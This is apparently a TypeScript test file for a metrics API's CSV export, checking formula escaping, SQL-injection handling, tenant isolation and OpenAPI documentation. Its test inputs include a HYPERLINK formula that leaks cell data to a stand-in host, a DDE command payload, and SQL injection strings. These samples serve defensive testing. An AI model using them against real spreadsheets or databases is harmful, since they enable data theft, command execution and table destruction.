import { randomUUID } from 'node:crypto';
import { withTenant } from '@dyocense/core/db';
import type { FastifyInstance } from 'fastify';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import {
  createPostgresTestDatabase,
  type TestDatabase,
} from '../../../packages/core/test/db/internal/engines.js';
import { isFormulaLike, toCsvTextField, toMetricCsv } from '../src/csv-export.js';
import { buildServer, signToken } from '../src/index.js';
import { call, listen } from './support/http.js';

const secret = 'test-secret-of-at-least-thirty-two-bytes!';

describe('CSV cells', () => {
  it.each([
    ['=HYPERLINK("http://evil.example","x")', `"'=HYPERLINK(""http://evil.example"",""x"")"`],
    ["=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"],
    ['+1+1', "'+1+1"],
    ['-2+3', "'-2+3"],
    ['@SUM(A1:A9)', "'@SUM(A1:A9)"],
    ['\t=1', "'\t=1"],
    ['\r=1', `"'\r=1"`],
    ['\0=1', "'\0=1"],
    ['north', 'north'],
    ['a,b', '"a,b"'],
    ['say "hi"', '"say ""hi"""'],
    ['two\nlines', '"two\nlines"'],
    ['x=1', 'x=1'],
    ['', ''],
  ])('writes %j as %j', (text, expected) => {
    expect(toCsvTextField(text)).toBe(expected);
  });

  it('tells formula-like text from plain text', () => {
    expect(['=1', '+1', '-1', '@a', '\tx', '\rx'].every(isFormulaLike)).toBe(true);
    expect([' =1', 'a=1', "'=1", '1-2', ''].some(isFormulaLike)).toBe(false);
  });

  it('writes numbers as numbers, negative ones included, and escapes dimension keys like values', () => {
    const csv = toMetricCsv([
      { ts: new Date('2024-01-01T00:00:00Z'), value: -5, dimensions: { '=key': '-north' } },
      { ts: new Date('2024-01-02T00:00:00Z'), value: 1.5, dimensions: {} },
    ]);
    expect(csv).toBe(
      "ts,value,'=key\r\n2024-01-01T00:00:00.000Z,-5,'-north\r\n2024-01-02T00:00:00.000Z,1.5,\r\n",
    );
  });
});

describe('GET /v1/metrics/{metric}.csv (PostgreSQL)', () => {
  let database: TestDatabase;
  let app: FastifyInstance;
  let base: string;
  const tenantA = randomUUID();
  const tenantB = randomUUID();
  let analystA: string;
  let viewerA: string;
  let viewerB: string;
  const injection = "'; drop table metric_points; --";

  beforeAll(async () => {
    database = await createPostgresTestDatabase();
    for (const tenant of [tenantA, tenantB]) {
      await withTenant(database.app.db, tenant, (trx) =>
        trx
          .insertInto('tenants')
          .values({ id: tenant, name: `export ${tenant}` })
          .execute(),
      );
    }
    analystA = await signToken({ secret, tenantId: tenantA, role: 'analyst' });
    viewerA = await signToken({ secret, tenantId: tenantA, role: 'viewer' });
    viewerB = await signToken({ secret, tenantId: tenantB, role: 'viewer' });
    app = await buildServer({ db: database.app.db, auth: { secret } });
    base = await listen(app);
    const ingested = await call(base, 'POST', '/v1/metrics', {
      token: analystA,
      json: {
        points: [
          { metric: 'visits', ts: '2024-01-02', value: -3, dimensions: { store: 'north' } },
          {
            metric: 'visits',
            ts: '2024-01-01',
            value: 10.5,
            dimensions: { store: '=HYPERLINK("http://evil.example/?leak="&A1,"Click")', channel: 'web' },
          },
          {
            metric: 'visits',
            ts: '2024-01-03',
            value: 7,
            dimensions: { store: '@south', channel: 'shop, main' },
          },
          { metric: 'sales.net', ts: '2024-01-01', value: 1 },
          { metric: injection, ts: '2024-01-01', value: 42, dimensions: { note: "x' or '1'='1" } },
        ],
      },
    });
    expect(ingested).toMatchObject({ status: 201, body: { inserted: 5 } });
  });

  afterAll(async () => {
    await app?.close();
    await database?.close();
  });

  it('exports raw points oldest first with one column per dimension, formula-like cells prefixed', async () => {
    const answer = await call(base, 'GET', '/v1/metrics/visits.csv', { token: viewerA });
    expect(answer.status).toBe(200);
    expect(answer.headers.get('content-type')).toBe('text/csv; charset=utf-8');
    expect(answer.headers.get('content-disposition')).toBe('attachment; filename="visits.csv"');
    expect(answer.text).toBe(
      [
        'ts,value,channel,store',
        `2024-01-01T00:00:00.000Z,10.5,web,"'=HYPERLINK(""http://evil.example/?leak=""&A1,""Click"")"`,
        '2024-01-02T00:00:00.000Z,-3,,north',
        `2024-01-03T00:00:00.000Z,7,"shop, main",'@south`,
        '',
      ].join('\r\n'),
    );
  });

  it('limits the export to [from, to)', async () => {
    const answer = await call(base, 'GET', '/v1/metrics/visits.csv?from=2024-01-02&to=2024-01-03', {
      token: viewerA,
    });
    expect(answer.text).toBe('ts,value,store\r\n2024-01-02T00:00:00.000Z,-3,north\r\n');
    const bad = await call(base, 'GET', '/v1/metrics/visits.csv?from=yesterday', { token: viewerA });
    expect(bad).toMatchObject({ status: 400, body: { error: { code: 'invalid_input' } } });
  });

  it('reads a metric whose name has dots, and one whose name is SQL, as data', async () => {
    const dotted = await call(base, 'GET', '/v1/metrics/sales.net.csv', { token: viewerA });
    expect(dotted.text).toBe('ts,value\r\n2024-01-01T00:00:00.000Z,1\r\n');
    const hostile = await call(base, 'GET', `/v1/metrics/${encodeURIComponent(injection)}.csv`, {
      token: viewerA,
    });
    expect(hostile.status).toBe(200);
    expect(hostile.headers.get('content-disposition')).toBe(
      'attachment; filename="___drop_table_metric_points__--.csv"',
    );
    expect(hostile.text).toBe(`ts,value,note\r\n2024-01-01T00:00:00.000Z,42,x' or '1'='1\r\n`);
    // The table is still there, with every point.
    const listed = await call(base, 'GET', '/v1/metrics', { token: viewerA });
    expect(
      (listed.body as { metrics: { points: number }[] }).metrics.reduce((sum, m) => sum + m.points, 0),
    ).toBe(5);
  });

  it('gives another tenant only a header for the same metric, and anonymous callers 401', async () => {
    const other = await call(base, 'GET', '/v1/metrics/visits.csv', { token: viewerB });
    expect(other).toMatchObject({ status: 200, text: 'ts,value\r\n' });
    const anonymous = await call(base, 'GET', '/v1/metrics/visits.csv');
    expect(anonymous.status).toBe(401);
  });

  it('is documented in the OpenAPI description as a text/csv response', async () => {
    const spec = (await call(base, 'GET', '/v1/openapi.json')).body as {
      paths: Record<
        string,
        {
          get?: {
            parameters: { name: string; in: string }[];
            responses: Record<string, { content: object }>;
          };
        }
      >;
    };
    const route = spec.paths['/v1/metrics/{metric}.csv']?.get;
    expect(route?.parameters.map((parameter) => `${parameter.in}:${parameter.name}`)).toEqual([
      'path:metric',
      'query:from',
      'query:to',
    ]);
    expect(Object.keys(route?.responses['200']?.content ?? {})).toEqual(['text/csv']);
  });
});
